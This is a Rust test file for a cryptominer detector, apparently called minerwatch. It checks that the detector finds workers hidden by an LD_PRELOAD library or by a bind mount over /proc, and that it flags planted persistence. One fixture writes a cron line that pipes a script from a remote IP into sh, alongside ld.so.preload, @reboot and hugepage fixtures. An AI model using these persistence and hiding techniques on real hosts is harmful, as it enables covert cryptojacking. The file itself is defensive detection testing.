//! Host findings, with real processes hidden from minerwatch's view.

use std::process::Command;

use crate::BIN;
use crate::support;

/// A busy process outside a fresh PID namespace, and minerwatch inside it
/// with the namespace's own /proc: the kernel's /proc/stat still counts the
/// outside CPU, which no process minerwatch can see accounts for. It is
/// measured and reported, but as a notice that says why: seeing no kernel
/// thread, minerwatch knows it runs in a PID namespace of its own (as in a
/// container), where the host's processes are out of sight by design.
#[test]
fn cpu_of_processes_we_cannot_see_is_measured_and_explained() {
    let _heavy = support::heavy_lock();
    let mut busy = support::spawn_benign("sh", &["-c", "yes > /dev/null"]);
    std::thread::sleep(std::time::Duration::from_millis(300));
    let out = Command::new("unshare")
        .args([
            "--pid",
            "--fork",
            "--mount",
            "--mount-proc",
            BIN,
            "scan",
            "--format",
            "json",
            "--window",
            "2",
        ])
        .output()
        .expect("unshare runs (util-linux)");
    busy.kill();
    // A notice is below the default --fail-on: exit 0.
    let r = crate::json_out(&out, 0);
    let hf = r["host_findings"].as_array().expect("host findings");
    let hidden = hf
        .iter()
        .find(|h| h["id"] == "host.hidden_cpu")
        .unwrap_or_else(|| panic!("no hidden CPU finding: {r}"));
    assert_eq!(hidden["level"], "notice", "{hidden}");
    let evidence = hidden["evidence"].as_str().unwrap_or("");
    assert!(
        evidence.contains("ran in processes we cannot see")
            && evidence.contains("PID namespace of its own")
            && evidence.contains("--proc-root"),
        "{evidence}"
    );
    // The busy process outside accounts for most of a core.
    let pct: f64 = evidence
        .split(" % of a core")
        .next()
        .and_then(|h| h.rsplit(' ').next())
        .and_then(|v| v.parse().ok())
        .unwrap_or(0.0);
    assert!(pct >= 50.0, "{evidence}");
}

/// Builds the LD_PRELOAD hider (tests/support/hider.c) into `dir`.
fn build_hider(dir: &std::path::Path) -> std::path::PathBuf {
    let so = dir.join("hider.so");
    let src = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/support/hider.c");
    let ok = Command::new("cc")
        .args(["-shared", "-fPIC", "-o"])
        .arg(&so)
        .arg(src)
        .arg("-ldl")
        .status()
        .expect("cc");
    assert!(ok.success(), "building hider.so");
    so
}

fn ls_proc(preload: Option<&std::path::Path>, hide: i32) -> String {
    let mut cmd = Command::new("ls");
    cmd.arg("/proc").env("MW_HIDE_PID", hide.to_string());
    if let Some(p) = preload {
        cmd.env("LD_PRELOAD", p);
    }
    String::from_utf8_lossy(&cmd.output().expect("ls").stdout).into_owned()
}

#[test]
fn worker_hidden_by_an_ld_preload_rootkit_is_still_found_and_convicted() {
    support::ensure_packages();
    let _heavy = support::heavy_lock();
    let dir = tempfile::tempdir().expect("tmp");
    let hider = build_hider(dir.path());
    let mut w = support::spawn_worker(&support::WorkerOpts::light());
    assert!(w.wait_for_line("hashing", std::time::Duration::from_secs(60)));
    let pid = w.pid();
    // The hider really hides it from a readdir-based tool.
    let has = |listing: &str| listing.split_whitespace().any(|x| x == pid.to_string());
    assert!(has(&ls_proc(None, pid)));
    assert!(!has(&ls_proc(Some(&hider), pid)), "the hider does not hide");

    let out = crate::scan_json(pid)
        .env("LD_PRELOAD", &hider)
        .env("MW_HIDE_PID", pid.to_string())
        .output()
        .expect("minerwatch runs");
    let r = crate::json_out(&out, 1);
    assert_eq!(crate::level_of(&r, pid), "miner", "{r}");
    assert!(
        crate::signal_ids(&r, pid).contains(&"proc.hidden".into()),
        "{r}"
    );
    // Reported once: in its finding, not again as a host finding.
    let hf = r["host_findings"].to_string();
    assert!(!hf.contains("host.hidden_process"), "{hf}");
    assert!(
        hf.contains("host.self_preloaded") && hf.contains("hider.so"),
        "{hf}"
    );
}

/// Unmounts on drop, whatever happened.
struct Mount(std::ffi::CString);
impl Drop for Mount {
    fn drop(&mut self) {
        // SAFETY: a valid NUL-terminated path we mounted on.
        unsafe { libc::umount2(self.0.as_ptr(), libc::MNT_DETACH) };
    }
}

#[test]
fn a_mount_over_the_proc_entry_of_a_worker_is_found() {
    support::ensure_packages();
    let _heavy = support::heavy_lock();
    let _host = support::host_state_change();
    let mut w = support::spawn_worker(&support::WorkerOpts::light());
    assert!(w.wait_for_line("hashing", std::time::Duration::from_secs(60)));
    let pid = w.pid();
    let empty = tempfile::tempdir().expect("tmp");
    // A second scanner in a mount namespace of its own with a fresh /proc,
    // made before the mount (as systemd's ProtectKernelTunables= does for
    // the service): the mount never shows in its own view of /proc.
    let go = empty.path().join("go");
    let private = Command::new("unshare")
        .args(["--mount", "--propagation", "private", "sh", "-c"])
        .arg(format!(
            "mount -t proc proc /proc && i=0 && while [ ! -e {go} ] && [ $i -lt 600 ]; do sleep 0.05; i=$((i+1)); done; \
             exec {BIN} scan --format json --window 1 --pid {pid}",
            go = go.display()
        ))
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("unshare runs (util-linux)");
    std::thread::sleep(std::time::Duration::from_millis(300));
    let src = std::ffi::CString::new(empty.path().as_os_str().as_encoded_bytes()).expect("path");
    let target = std::ffi::CString::new(format!("/proc/{pid}")).expect("path");
    // SAFETY: valid paths; a bind mount of our own empty dir over our own worker.
    let r = unsafe {
        libc::mount(
            src.as_ptr(),
            target.as_ptr(),
            std::ptr::null(),
            libc::MS_BIND,
            std::ptr::null(),
        )
    };
    assert_eq!(r, 0, "bind mount: {}", std::io::Error::last_os_error());
    let _mount = Mount(target);
    assert!(
        !std::path::Path::new(&format!("/proc/{pid}/status")).exists(),
        "the mount hides it"
    );
    let out = crate::scan_json(pid)
        .args(["--window", "1"])
        .output()
        .expect("minerwatch runs");
    let r = reports_proc_mount(&out, pid);
    assert!(r["coverage"]["inaccessible"].as_u64() >= Some(1), "{r}");
    // The private scanner sees the worker, and the mount through init's
    // view of the host's mounts.
    std::fs::write(&go, b"").expect("go");
    let out = private.wait_with_output().expect("private scan");
    let r = reports_proc_mount(&out, pid);
    assert_eq!(crate::level_of(&r, pid), "miner", "{r}");
}

/// The JSON report of a scan that exited 1 and names the mount over
/// /proc/`pid` as a `host.proc_mount` finding.
fn reports_proc_mount(out: &std::process::Output, pid: i32) -> serde_json::Value {
    let r = crate::json_out(out, 1);
    let hf = r["host_findings"].to_string();
    assert!(
        hf.contains("host.proc_mount") && hf.contains(&format!("/proc/{pid}")),
        "{hf}"
    );
    r
}

#[test]
fn persistence_and_preloads_in_a_root_tree_are_found_and_linked_to_the_miner() {
    support::ensure_packages();
    let _heavy = support::heavy_lock();
    let mut w = support::spawn_worker(&support::WorkerOpts {
        disguise: support::Disguise::ShmCampaign("kdevtmpfsi".into()),
        ..support::WorkerOpts::light()
    });
    assert!(w.wait_for_line("hashing", std::time::Duration::from_secs(60)));
    let pid = w.pid();
    let exe = std::fs::read_link(format!("/proc/{pid}/exe")).expect("exe");
    let exe = exe
        .to_string_lossy()
        .trim_end_matches(" (deleted)")
        .to_string();

    let root = tempfile::tempdir().expect("tmp");
    let r = root.path();
    let write = |rel: &str, body: &str| {
        let p = r.join(rel);
        std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
        std::fs::write(p, body).expect("write");
    };
    write("etc/ld.so.preload", "/usr/local/lib/libsystem.so\n");
    std::fs::create_dir_all(r.join("usr/local/lib")).expect("mkdir");
    std::fs::copy(
        "/usr/lib/x86_64-linux-gnu/librandomx.so.0",
        r.join("usr/local/lib/libsystem.so"),
    )
    .expect("copy");
    write(
        "etc/crontab",
        &format!(
            "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n@reboot root {exe} -B\n"
        ),
    );
    write(
        "etc/cron.d/sync",
        "*/5 * * * * root curl -fsSL http://203.0.113.9/s.sh | sh\n",
    );
    write("etc/sysctl.d/99-tune.conf", "vm.nr_hugepages = 1168\n");
    write("sys/module/msr/parameters/allow_writes", "on\n");

    // --host-checks: the cron.d line and the tuning concern the host, not
    // the worker in scope.
    let out = crate::scan_json(pid)
        .args(["--window", "1", "--host-checks", "--root"])
        .arg(r)
        .output()
        .expect("minerwatch runs");
    let rep = crate::json_out(&out, 1);
    let hf = rep["host_findings"].as_array().expect("array");
    let find = |id: &str, needle: &str| {
        hf.iter()
            .find(|h| h["id"] == id && h["evidence"].as_str().is_some_and(|e| e.contains(needle)))
            .unwrap_or_else(|| panic!("no {id} with '{needle}': {hf:?}"))
    };
    let preload = find("host.ld_so_preload", "/usr/local/lib/libsystem.so");
    assert_eq!(
        preload["level"], "suspicious",
        "a preloaded RandomX engine: {preload}"
    );
    let cron = find("host.persistence", &exe);
    assert!(
        cron["evidence"]
            .as_str()
            .is_some_and(|e| e.contains(&format!("launches running process {pid}"))),
        "{cron}"
    );
    find("host.persistence", "curl -fsSL");
    find("host.sysctl", "vm.nr_hugepages");
    find("host.msr_writes", "allow_writes=on");
    // The benign cron line is not reported.
    assert!(!hf.iter().any(|h| {
        h["evidence"]
            .as_str()
            .is_some_and(|e| e.contains("run-parts"))
    }));
    assert!(
        crate::signal_ids(&rep, pid).contains(&"persist.launcher".into()),
        "{rep}"
    );
}

/// A whole-host scan in a fresh PID namespace (as in a container) asks the
/// brute force only about the pids handed out there, not all of pid_max.
#[test]
fn a_scan_in_a_fresh_pid_namespace_probes_only_the_pids_handed_out() {
    let tmp = tempfile::tempdir().expect("tmp");
    let save = tmp.path().join("snap.json");
    let out = Command::new("unshare")
        .args(["--pid", "--fork", "--mount", "--mount-proc", BIN, "scan"])
        .args(["--window", "0.2", "--format", "json", "--save"])
        .arg(&save)
        .output()
        .expect("unshare runs (util-linux)");
    assert!(
        matches!(out.status.code(), Some(0 | 1)),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let snap: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&save).expect("snapshot saved")).expect("json");
    let sweep = &snap["host_facts"]["pid_sweep"];
    let last = sweep["last_pid"].as_i64().expect("last pid read");
    // minerwatch is pid 1 there; its threads took a few pids more.
    assert!((1..1000).contains(&last), "{sweep}");
    assert_eq!(sweep["ranges"], serde_json::json!([[1, last]]), "{sweep}");
    assert_eq!(sweep["wrapped"], false, "{sweep}");
    assert!(sweep["pid_max"].as_i64().unwrap_or(0) >= last, "{sweep}");
}

/// A `--pid` scan's verdict is about its scope: a fixture root's cron line
/// that launches another program is a host finding only with
/// `--host-checks`; the one that launches the scoped process is kept.
#[test]
fn a_pid_scan_judges_only_the_host_checks_that_concern_its_scope() {
    let tmp = tempfile::tempdir().expect("tmp");
    let dir = tmp.path().join(".cache");
    std::fs::create_dir_all(&dir).expect("mkdir");
    let prog = dir.join("sleeper");
    std::fs::copy("/bin/sleep", &prog).expect("copy sleep");
    let root = tmp.path().join("root");
    std::fs::create_dir_all(root.join("etc")).expect("mkdir etc");
    std::fs::write(
        root.join("etc/crontab"),
        format!(
            "@reboot root /dev/shm/.x/kdevtmpfsi\n@reboot root {} 30\n",
            prog.display()
        ),
    )
    .expect("crontab");
    let kid = support::spawn_benign(&prog.to_string_lossy(), &["30"]);
    let root_s = root.to_string_lossy().into_owned();
    let scoped = crate::scan_pids(&[kid.pid()], &["--window", "0.3", "--root", &root_s]);
    let ids = |r: &serde_json::Value| -> Vec<String> {
        r["host_findings"]
            .as_array()
            .map(|a| {
                a.iter()
                    .map(|h| format!("{} {}", h["id"], h["evidence"]))
                    .collect()
            })
            .unwrap_or_default()
    };
    let scoped_ids = ids(&scoped);
    assert_eq!(scoped_ids.len(), 1, "{scoped_ids:?}");
    assert!(
        scoped_ids[0].contains("host.persistence") && scoped_ids[0].contains("crontab:2"),
        "{scoped_ids:?}"
    );
    let all = crate::scan_pids(
        &[kid.pid()],
        &["--window", "0.3", "--root", &root_s, "--host-checks"],
    );
    let all_ids = ids(&all);
    assert!(
        all_ids
            .iter()
            .any(|h| h.contains("host.persistence") && h.contains("crontab:1")),
        "{all_ids:?}"
    );
    assert!(all_ids.len() > scoped_ids.len(), "{all_ids:?}");
}

/// Puts vm.nr_hugepages back on drop, also when the test fails.
struct HugePages(String);
impl Drop for HugePages {
    fn drop(&mut self) {
        let _ = std::fs::write("/proc/sys/vm/nr_hugepages", &self.0);
    }
}

fn meminfo(key: &str) -> u64 {
    std::fs::read_to_string("/proc/meminfo")
        .unwrap_or_default()
        .lines()
        .find_map(|l| l.strip_prefix(key)?.split_whitespace().next()?.parse().ok())
        .unwrap_or(0)
}

/// Huge pages another program reserved (here: two more, given back after)
/// are a host leftover: a whole-host question, not part of a `--pid`
/// scan's verdict, which once turned three tests' `clean` into `notice`.
#[test]
fn huge_pages_reserved_by_another_program_leave_a_pid_scan_clean() {
    let _host = support::host_state_change();
    let before = std::fs::read_to_string("/proc/sys/vm/nr_hugepages").expect("nr_hugepages");
    let n: u64 = before.trim().parse().expect("a number");
    let _restore = HugePages(before.clone());
    std::fs::write("/proc/sys/vm/nr_hugepages", (n + 2).to_string())
        .expect("reserve huge pages (run the tests as root)");
    let kid = support::spawn_benign("sleep", &["30"]);
    let scoped = crate::scan_pids(&[kid.pid()], &["--window", "0.3"]);
    assert_eq!(scoped["verdict"], "clean", "{scoped}");
    assert_eq!(scoped["host_findings"], serde_json::json!([]), "{scoped}");
    // All reserved pages free (nothing else took them meanwhile): the
    // whole-host checks name them.
    let total = meminfo("HugePages_Total:");
    if total > n && meminfo("HugePages_Free:") >= total {
        let all = crate::scan_pids(&[kid.pid()], &["--window", "0.3", "--host-checks"]);
        assert!(
            all["host_findings"]
                .to_string()
                .contains("host.hugepages_unused"),
            "{all}"
        );
    }
}
